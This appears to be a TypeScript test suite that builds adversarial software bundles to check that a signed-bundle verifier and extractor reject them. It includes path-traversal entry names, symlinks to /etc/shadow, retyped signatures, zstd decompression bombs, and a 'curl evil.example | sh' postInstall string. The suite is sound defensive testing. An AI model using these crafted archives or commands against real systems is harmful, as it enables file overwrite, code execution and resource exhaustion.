/**
 * An adversarial corpus: bundles crafted byte by byte to be wrong in one way each.
 * Every one must be refused by verifyBundle and extractBundle with a BundleError
 * that names the entry (or the file) and the reason, and a refused extraction must
 * leave nothing behind: no target directory, no staging directory.
 */
import { createReadStream } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { fc, test } from '@fast-check/vitest';
import { readSignature } from 'openpgp';
import { afterAll, describe, expect, it } from 'vitest';
import { compress, DecompressStream } from 'zstd-napi';
import { BundleError } from './errors.js';
import { extractBundle } from './extract.js';
import { type BundleLimits, serializeManifest } from './manifest.js';
import {
  DEFAULT_FILES,
  flipBits,
  forgeBundle,
  type ForgedBundle,
  rawHeader,
  retypeSignature,
  sign,
  tarEntry,
  testKeys,
  zstdBomb,
} from './test-support/bundle-forge.js';
import { verifyBundle } from './verify.js';

const work = await mkdtemp(join(tmpdir(), 'sovereign-adversarial-'));
afterAll(() => rm(work, { recursive: true, force: true }));

const { trusted, untrusted } = await testKeys();
const trustedKeys = [trusted.publicKey];
const good = await forgeBundle();
const MiB = 1024 ** 2;

/** A regular expression matching `text` literally. */
const literal = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
/** How the verifier names an entry: `entry "path"`. */
const entry = (path: string) => `entry ${literal(JSON.stringify(path))}`;

/** The ways the verifier says manifest.json.asc is not one well-formed armored signature. */
const MALFORMED_SIGNATURE =
  '(not an armored OpenPGP signature|not exactly one ASCII-armored OpenPGP signature|not an OpenPGP signature' +
  '|the armor checksum does not match|the armored data is not canonical base64)';
const signatureRefused = (reason: string) => new RegExp(`^manifest\\.json\\.asc: ${reason}`);

let cases = 0;
/** Writes `bytes` to a fresh directory of its own; that directory holds nothing else. */
async function bundleFile(bytes: Buffer, name = 'bundle.tar'): Promise<{ dir: string; file: string }> {
  const dir = join(work, `case-${++cases}`);
  await mkdir(dir);
  const file = join(dir, name);
  await writeFile(file, bytes);
  return { dir, file };
}

/** `await expect(promise).rejects.toThrow(pattern)`, for a BundleError, with a short report when it is accepted. */
async function expectBundleError(promise: Promise<unknown>, pattern: RegExp): Promise<void> {
  const outcome = await promise.then(
    () => 'accepted',
    (error: unknown) => error,
  );
  expect(outcome, `expected a BundleError matching ${pattern}`).toBeInstanceOf(BundleError);
  expect((outcome as BundleError).message).toMatch(pattern);
}

/**
 * Asserts that verification and extraction both refuse `bytes` with a BundleError whose
 * message matches `pattern` (or `pattern(file)`, for messages that start with the bundle's
 * path), and that the refused extraction left nothing beside the bundle file.
 */
async function refuses(
  bytes: Buffer,
  pattern: RegExp | ((file: string) => RegExp),
  options: { limits?: Partial<BundleLimits>; name?: string } = {},
): Promise<void> {
  const { dir, file } = await bundleFile(bytes, options.name);
  const expected = typeof pattern === 'function' ? pattern(file) : pattern;
  const verifyOptions = { trustedKeys, ...(options.limits ? { limits: options.limits } : {}) };
  await expectBundleError(verifyBundle(file, verifyOptions), expected);
  const out = join(dir, 'out');
  await expectBundleError(extractBundle(file, out, verifyOptions), expected);
  // Nothing but the bundle: no `out`, no `.out.staging-*`.
  expect(await readdir(dir)).toEqual([basename(file)]);
}

/** The bundle's path as it appears at the start of a message. */
const fileMessage = (reason: string) => (file: string) => new RegExp(`^${literal(file)}: ${reason}`);

const contentEntries = good.entries.filter((e) => !e.path.startsWith('manifest.json') && e.size > 0);
const entryOf = (bundle: ForgedBundle, path: string) => {
  const found = bundle.entries.find((e) => e.path === path);
  if (!found) throw new Error(`no entry ${path}`);
  return found;
};

describe('the forge', () => {
  it('makes bundles that verify and extract, plain and zstd-compressed, with canonical manifests', async () => {
    expect(good.manifestBytes).toEqual(serializeManifest(good.manifest));
    for (const bytes of [good.bytes, (await forgeBundle({ compress: true })).bytes]) {
      const { dir, file } = await bundleFile(bytes);
      const verified = await verifyBundle(file, { trustedKeys });
      expect(verified.signature.fingerprint).toBe(trusted.fingerprint);
      await extractBundle(file, join(dir, 'out'), { trustedKeys });
      expect(await readFile(join(dir, 'out', 'controller/app.js'), 'utf8')).toBe(DEFAULT_FILES[0]?.content);
    }
  });
});

describe('tampering with any byte of any entry', () => {
  test.prop(
    [
      fc.constantFrom(...contentEntries),
      fc.nat(),
      fc.integer({ min: 1, max: 255 }),
      fc.boolean(), // zstd-compress the tampered archive
    ],
    { numRuns: 60 },
  )('a flipped content byte is a digest mismatch that names the entry', async (target, at, mask, compressed) => {
    const tar = flipBits(good.tar, target.dataOffset + (at % target.size), mask);
    await refuses(
      compressed ? compress(tar) : tar,
      new RegExp(
        `^${entry(target.path)}: SHA-256 [0-9a-f]{64} does not match the manifest's ${good.manifest.files.find((f) => f.path === target.path)?.sha256}`,
      ),
    );
  });

  test.prop([fc.nat(), fc.integer({ min: 1, max: 255 })], { numRuns: 40 })(
    'a flipped manifest byte fails the signature',
    async (at, mask) => {
      const manifest = entryOf(good, 'manifest.json');
      await refuses(
        flipBits(good.tar, manifest.dataOffset + (at % manifest.size), mask),
        /^manifest\.json\.asc: the signature does not verify: Signed digest did not match/,
      );
    },
  );

  test.prop([fc.nat(), fc.integer({ min: 1, max: 255 })], { numRuns: 100 })(
    'a flipped signature byte is refused',
    async (at, mask) => {
      const signature = entryOf(good, 'manifest.json.asc');
      await refuses(
        flipBits(good.tar, signature.dataOffset + (at % signature.size), mask),
        signatureRefused(
          `(${MALFORMED_SIGNATURE}|the signature does not verify|signed by key [0-9A-F]+, which is not a trusted key|holds \\d+ signatures|signature type|carries unsigned data)`,
        ),
      );
    },
  );
});

describe('signatures', () => {
  it('refuses a signature by a key that is not trusted, naming that key', async () => {
    const keyId = untrusted.publicKey.getKeyID().toHex().toUpperCase();
    await refuses(
      (await forgeBundle({ signWith: untrusted.privateKey })).bytes,
      new RegExp(`^manifest\\.json\\.asc: signed by key ${keyId}, which is not a trusted key`),
    );
  });

  it('refuses a bundle whose second entry is not the signature', async () => {
    await refuses(
      (await forgeBundle({ omitFromArchive: ['manifest.json.asc'] })).bytes,
      new RegExp(`^${entry('controller/app.js')}: the second entry must be manifest\\.json\\.asc`),
    );
  });

  it('refuses a bundle that ends before the signature, or starts with something other than the manifest', async () => {
    await refuses(
      (await forgeBundle({ order: ['manifest.json'] })).bytes,
      /^the bundle ends before manifest\.json\.asc/,
    );
    await refuses(
      (await forgeBundle({ order: ['manifest.json.asc', 'manifest.json'] })).bytes,
      new RegExp(`^${entry('manifest.json.asc')}: the first entry must be manifest\\.json`),
    );
  });

  it('refuses a swapped signature: a valid vendor signature of a different manifest', async () => {
    const other = await forgeBundle({ files: DEFAULT_FILES.slice(1) });
    await refuses(
      (await forgeBundle({ signatureOverride: other.signature })).bytes,
      /^manifest\.json\.asc: the signature does not verify: Signed digest did not match/,
    );
  });

  it('refuses a truncated signature (the armored text cut short)', async () => {
    await refuses(
      (await forgeBundle({ signatureOverride: good.signature.subarray(0, good.signature.length / 2) })).bytes,
      signatureRefused(MALFORMED_SIGNATURE),
    );
  });

  it('refuses a corrupt signature (garbage)', async () => {
    const garbage = Buffer.concat([
      Buffer.from('not a signature\n'),
      Buffer.from(Array.from({ length: 200 }, (_, i) => (i * 73) % 256)),
    ]);
    await refuses((await forgeBundle({ signatureOverride: garbage })).bytes, signatureRefused(MALFORMED_SIGNATURE));
  });

  it('refuses two signature packets in one armored block', async () => {
    const later = await sign(good.manifestBytes, trusted.privateKey, new Date('2027-01-01T00:00:00Z'));
    const both = await readSignature({ armoredSignature: good.signature.toString() });
    both.packets.push(...(await readSignature({ armoredSignature: later.toString() })).packets);
    await refuses(
      (await forgeBundle({ signatureOverride: both.armor() })).bytes,
      /^manifest\.json\.asc: holds 2 signatures; exactly one is accepted/,
    );
  });

  it('refuses two armored signatures concatenated', async () => {
    const later = await sign(good.manifestBytes, trusted.privateKey, new Date('2027-01-01T00:00:00Z'));
    await refuses(
      (await forgeBundle({ signatureOverride: Buffer.concat([good.signature, later]) })).bytes,
      signatureRefused(`(${MALFORMED_SIGNATURE}|holds \\d+ signatures)`),
    );
  });

  it.each([
    ['0x02', 'standalone', 0x02],
    ['0x10', 'generic certification', 0x10],
    ['0x40', 'timestamp', 0x40],
  ])(
    'refuses a vendor signature re-typed to %s (%s) over a manifest of the attacker’s choosing',
    async (_hex, _kind, type) => {
      // The vendor's signature from some published bundle, its type byte changed: if the
      // verifier accepted it, any manifest (here: different content) would pass as signed.
      const forged = await forgeBundle({
        files: [{ path: 'controller/app.js', content: 'process.exit(66); // not the vendor code\n' }],
        signatureOverride: await retypeSignature(good.signature, type),
      });
      await refuses(forged.bytes, signatureRefused('signature type 0x[0-9a-f]+ is not a signature over a document'));
    },
  );
});

describe('entries against the manifest', () => {
  it('refuses a file listed but absent', async () => {
    await refuses(
      (await forgeBundle({ omitFromArchive: ['controller/lib/util.js'] })).bytes,
      new RegExp(`^${entry('controller/lib/util.js')}: listed in the manifest but absent from the bundle`),
    );
  });

  it('refuses an entry the manifest does not list', async () => {
    await refuses(
      (await forgeBundle({ extraEntries: [tarEntry({ path: 'controller/extra.js', size: 4 }, Buffer.from('evil'))] }))
        .bytes,
      new RegExp(`^${entry('controller/extra.js')}: not listed in the manifest`),
    );
  });

  it('refuses the same path twice, even when the second copy is identical', async () => {
    const order = [
      'manifest.json',
      'manifest.json.asc',
      ...good.manifest.files.map((f) => f.path),
      'controller/app.js',
    ];
    await refuses((await forgeBundle({ order })).bytes, new RegExp(`^${entry('controller/app.js')}: appears twice`));
  });

  it('refuses a manifest listing names that collide after case folding', async () => {
    const files = [
      { path: 'controller/A.js', content: 'upper' },
      { path: 'controller/a.js', content: 'lower' },
    ];
    await refuses(
      (await forgeBundle({ files })).bytes,
      /^manifest\.json: controller\/a\.js and controller\/A\.js name the same file on a case-insensitive or normalising file system/,
    );
  });

  it('refuses an unlisted archive entry that collides with a listed one after case folding', async () => {
    const forged = await forgeBundle({
      files: [{ path: 'controller/A.js', content: 'upper' }],
      extraEntries: [tarEntry({ path: 'controller/a.js', size: 5 }, Buffer.from('lower'))],
    });
    await refuses(
      forged.bytes,
      new RegExp(
        `^${entry('controller/a.js')}: collides with "controller/A\\.js" after case folding or Unicode normalisation`,
      ),
    );
  });

  it('refuses a manifest listing a name in NFD (not NFC)', async () => {
    const files = [
      { path: 'controller/\u00e9', content: 'nfc' },
      { path: 'controller/e\u0301', content: 'nfd' },
    ];
    await refuses(
      (await forgeBundle({ files })).bytes,
      /^manifest\.json: files\.1\.path: not in Unicode normalisation form C/,
    );
  });

  it('refuses an archive entry in NFD beside its listed NFC twin', async () => {
    const forged = await forgeBundle({
      files: [{ path: 'controller/\u00e9', content: 'nfc' }],
      extraEntries: [tarEntry({ path: 'controller/e\u0301', size: 3 }, Buffer.from('nfd'))],
    });
    await refuses(forged.bytes, new RegExp(`^${entry('controller/e\u0301')}: not in Unicode normalisation form C`));
  });

  it('refuses an entry whose header size differs from the manifest', async () => {
    const forged = await forgeBundle({
      manifestPatch: (manifest) => {
        const file = manifest.files.find((f) => f.path === 'controller/app.js');
        if (file) file.size += 1;
      },
    });
    await refuses(forged.bytes, new RegExp(`^${entry('controller/app.js')}: 26 bytes, but the manifest says 27`));
  });
});

describe('entry names (raw headers, not listed in the manifest)', () => {
  it.each([
    ['an absolute path', '/etc/cron.d/evil', 'absolute path'],
    ['a .. component', 'controller/../../../etc/passwd', "'\\.\\.' path component"],
    ['a leading ..', '../outside', "'\\.\\.' path component"],
    ['a backslash', 'controller\\..\\..\\evil.js', 'contains a backslash'],
    ['a control character', 'controller/a\u001bb', 'contains a control or reserved character'],
    ['an unknown top level', 'etc/passwd', "'etc' is not a top-level name a bundle may contain"],
  ])('refuses %s', async (_what, path, reason) => {
    // After the signature, and again as the very first entry (before the manifest).
    const evil = tarEntry({ path, size: 4 }, Buffer.from('evil'));
    const pattern = new RegExp(`^${entry(path)}: ${reason}`);
    await refuses((await forgeBundle({ extraEntries: [evil] })).bytes, pattern);
    await refuses(Buffer.concat([evil, good.tar]), pattern);
  });

  it('refuses a NUL inside a name (raw name bytes controller/a\\0b), naming the file and the header offset', async () => {
    const evil = tarEntry({ path: 'unused', nameBytes: Buffer.from('controller/a\0b'), size: 4 }, Buffer.from('evil'));
    const forged = await forgeBundle({ extraEntries: [evil] });
    await refuses(
      forged.bytes,
      fileMessage(
        `bad tar header at byte ${forged.tar.length - 1024 - evil.length}: entry name contains a NUL byte followed by more text`,
      ),
    );
  });
});

describe('entry types other than regular files', () => {
  it.each([
    ['1', 'hardlink'],
    ['2', 'symlink'],
    ['3', 'char-device'],
    ['4', 'block-device'],
    ['5', 'directory'],
    ['6', 'fifo'],
    ['x', 'pax-header'],
    ['g', 'pax-header'],
    ['L', 'gnu-long-name'],
  ])('refuses typeflag %s (%s), even under a listed name', async (type, kind) => {
    const forged = await forgeBundle({
      omitFromArchive: ['controller/app.js'],
      extraEntries: [tarEntry({ path: 'controller/app.js', size: 0, type, linkname: '/etc/passwd', mode: 0o777 })],
    });
    await refuses(
      forged.bytes,
      new RegExp(`^${entry('controller/app.js')}: ${kind} entries are not allowed in a bundle`),
    );
  });

  it('refuses a symlink in place of the manifest', async () => {
    await refuses(
      Buffer.concat([tarEntry({ path: 'manifest.json', size: 0, type: '2', linkname: '/etc/shadow' }), good.tar]),
      new RegExp(`^${entry('manifest.json')}: symlink entries are not allowed in a bundle`),
    );
  });
});

describe('limits', () => {
  it('refuses a listed file over limits.entryBytes before reading any of it', async () => {
    const forged = await forgeBundle({ files: [{ path: 'controller/big.bin', content: Buffer.alloc(2048, 1) }] });
    // Cut the archive 10 bytes into big.bin: the limit must fire before its body is read.
    const cut = forged.tar.subarray(0, entryOf(forged, 'controller/big.bin').dataOffset + 10);
    for (const bytes of [forged.tar, cut]) {
      await refuses(bytes, /^manifest\.json: controller\/big\.bin is 2048 bytes, over the limit of 1024/, {
        limits: { entryBytes: 1024 },
      });
    }
  });

  it('refuses a raw header whose size field claims 1 TB, before reading', async () => {
    const terabyte = 1024 ** 4;
    // GNU base-256: 0x80, then the value big-endian in the remaining 11 bytes.
    const sizeField = Buffer.alloc(12);
    sizeField[0] = 0x80;
    sizeField.writeUIntBE(terabyte, 6, 6);
    const header = rawHeader({ path: 'controller/app.js', size: 0, sizeField });
    const forged = await forgeBundle({ omitFromArchive: ['controller/app.js'], extraEntries: [header] });
    await refuses(
      forged.bytes,
      new RegExp(`^${entry('controller/app.js')}: ${terabyte} bytes, over the limit of ${64 * 1024 ** 3}`),
    );
    await refuses(
      Buffer.concat([rawHeader({ path: 'manifest.json', size: terabyte }), Buffer.alloc(4096)]),
      new RegExp(`^${entry('manifest.json')}: ${terabyte} bytes, over the limit of ${32 * MiB}`),
    );
  });

  it('refuses a manifest listing more files than limits.entries', async () => {
    await refuses(good.bytes, /^manifest\.json: lists 5 files, more than the limit of 3/, { limits: { entries: 3 } });
  });

  it('refuses an archive holding more entries than limits.entries', async () => {
    const forged = await forgeBundle({
      files: DEFAULT_FILES.slice(0, 2),
      extraEntries: [tarEntry({ path: 'controller/fourth.js', size: 1 }, Buffer.from('4'))],
    });
    await refuses(forged.bytes, new RegExp(`^${entry('controller/fourth.js')}: the bundle holds more than 3 entries`), {
      limits: { entries: 3 },
    });
  });
});

describe('truncated archives', () => {
  const SNIFF_BYTES = 262; // the ustar magic ends at byte 262: shorter files cannot be recognised at all
  const truncated = (file: string) =>
    new RegExp(`^${literal(file)}: (truncated archive|not a bundle: neither a tar archive nor a zstd stream)`);

  test.prop([fc.integer({ min: 0, max: good.tar.length - 1 })], { numRuns: 80 })(
    'refuses every strict prefix of a plain bundle',
    async (length) => {
      await refuses(
        good.tar.subarray(0, length),
        length < SNIFF_BYTES ? fileMessage('not a bundle') : fileMessage('truncated archive'),
      );
    },
  );

  const zstd = compress(good.tar);
  test.prop([fc.integer({ min: 0, max: zstd.length - 1 })], { numRuns: 40 })(
    'refuses every strict prefix of a zstd-compressed bundle',
    async (length) => {
      await refuses(
        zstd.subarray(0, length),
        (file) =>
          new RegExp(
            `^${literal(file)}: (truncated archive|not a bundle|cannot read the zstd stream: (Stream ended in middle of compressed data frame|the zstd stream ends in the middle of a frame))`,
          ),
      );
    },
  );

  it('refuses a cut at every entry boundary and inside the end marker', async () => {
    const cuts = new Set([0, 1, SNIFF_BYTES - 1, SNIFF_BYTES, 511, 512, good.tar.length - 1024, good.tar.length - 512]);
    for (const e of good.entries) [e.headerOffset, e.dataOffset, e.dataOffset + e.size].forEach((at) => cuts.add(at));
    cuts.add(good.tar.length - 1);
    for (const length of [...cuts].sort((a, b) => a - b)) await refuses(good.tar.subarray(0, length), truncated);
  });
});

describe('files that are not tar archives', () => {
  const notABundle = fileMessage('not a bundle: neither a tar archive nor a zstd stream');

  test.prop([fc.uint8Array({ maxLength: 4096 })], { numRuns: 30 })('refuses random bytes', async (bytes) => {
    await refuses(Buffer.from(bytes), (file) => new RegExp(`^${literal(file)}: (not a bundle|cannot read the zstd)`));
  });

  it('refuses an empty file', async () => {
    await refuses(Buffer.alloc(0), notABundle);
  });

  it('refuses a gzip file (even of a valid bundle)', async () => {
    await refuses(gzipSync(good.tar), notABundle, { name: 'bundle.tar.gz' });
  });

  it('refuses a zip file', async () => {
    await refuses(Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(1020, 0x41)]), notABundle, {
      name: 'bundle.zip',
    });
  });
});

describe('streams that hold more than the manifest declares', () => {
  const tooMuch = fileMessage('the (decompressed stream|stream|archive) holds more data than the manifest declares');

  /** Seconds and peak RSS growth (bytes) while `run` runs; RSS sampled every millisecond. */
  async function measure(run: () => Promise<void>): Promise<{ seconds: number; rssGrowth: number }> {
    await new Promise((settle) => setTimeout(settle, 50));
    const before = process.memoryUsage().rss;
    let peak = before;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 1);
    const started = performance.now();
    try {
      await run();
    } finally {
      clearInterval(sampler);
    }
    peak = Math.max(peak, process.memoryUsage().rss);
    return { seconds: (performance.now() - started) / 1000, rssGrowth: peak - before };
  }

  async function decompressAll(file: string): Promise<number> {
    let bytes = 0;
    for await (const chunk of createReadStream(file).pipe(new DecompressStream()) as AsyncIterable<Buffer>)
      bytes += chunk.length;
    return bytes;
  }

  it(
    'refuses a zstd bomb (512 MiB of zeros after a valid bundle) quickly and in bounded memory',
    { timeout: 120_000 },
    async () => {
      // More than the 300 MiB bound: a verifier that buffers the whole expansion cannot pass.
      const zeros = 512 * MiB;
      const bomb = zstdBomb(good.tar, zeros);
      expect(bomb.length).toBeLessThan(64 * 1024);
      const { file } = await bundleFile(bomb, 'bomb.tar.zst');
      // What decompressing everything costs, from an eighth of the bomb (the cost is linear).
      const eighth = await bundleFile(zstdBomb(good.tar, zeros / 8), 'eighth.tar.zst');
      const baseline = await measure(async () => {
        expect(await decompressAll(eighth.file)).toBe(good.tar.length + zeros / 8);
      });
      const fullSeconds = baseline.seconds * 8;

      const refused = await measure(() => expectBundleError(verifyBundle(file, { trustedKeys }), tooMuch(file)));
      const rssMiB = Math.round(refused.rssGrowth / MiB);
      expect
        .soft(refused.rssGrowth, `RSS grew by ${rssMiB} MiB while refusing the bomb (${refused.seconds.toFixed(2)} s)`)
        .toBeLessThan(300 * MiB);
      expect
        .soft(
          refused.seconds,
          `refusing took ${refused.seconds.toFixed(2)} s; decompressing everything takes about ${fullSeconds.toFixed(2)} s`,
        )
        .toBeLessThan(fullSeconds / 4);
    },
  );

  it('refuses a zstd bomb (200 MB of zeros) on extraction, leaving nothing behind', async () => {
    await refuses(zstdBomb(good.tar, 200 * 1000 * 1000), tooMuch, { name: 'bomb.tar.zst' });
  });

  it('refuses a plain tar with a megabyte of zeros after the end marker', async () => {
    await refuses((await forgeBundle({ trailer: Buffer.alloc(MiB) })).bytes, tooMuch);
  });
});

describe('signed manifests that are wrong', () => {
  it('refuses a validly signed manifest that is not JSON', async () => {
    await refuses(
      (await forgeBundle({ manifestBytes: Buffer.from('{"schema": "sovereign.bundle/v1", ') })).bytes,
      /^manifest\.json: not valid JSON: /,
    );
  });

  it('refuses a validly signed manifest with an unknown field', async () => {
    const forged = await forgeBundle({
      manifestPatch: (manifest) => {
        manifest.postInstall = 'curl evil.example | sh';
      },
    });
    await refuses(forged.bytes, /^manifest\.json: \(root\): Unrecognized key: "postInstall"/);
  });
});

describe('beyond the listed cases', () => {
  it('refuses a manifest that lists both a file and a path beneath it (controller/a and controller/a/b)', async () => {
    // No file system can hold both; extraction must say so as a BundleError naming the entries.
    const forged = await forgeBundle({
      files: [
        { path: 'controller/a', content: 'a file' },
        { path: 'controller/a/b', content: 'a file beneath the file' },
      ],
    });
    await refuses(forged.bytes, /controller\/a\b.*controller\/a\/b|controller\/a\/b.*controller\/a\b/);
  });

  it('leaves nothing behind when extracting into a parent directory that did not exist', async () => {
    const { dir, file } = await bundleFile(Buffer.from('not a bundle at all'));
    const out = join(dir, 'new-parent', 'out');
    await expectBundleError(extractBundle(file, out, { trustedKeys }), fileMessage('not a bundle')(file));
    expect(await readdir(dir)).toEqual([basename(file)]);
  });
});
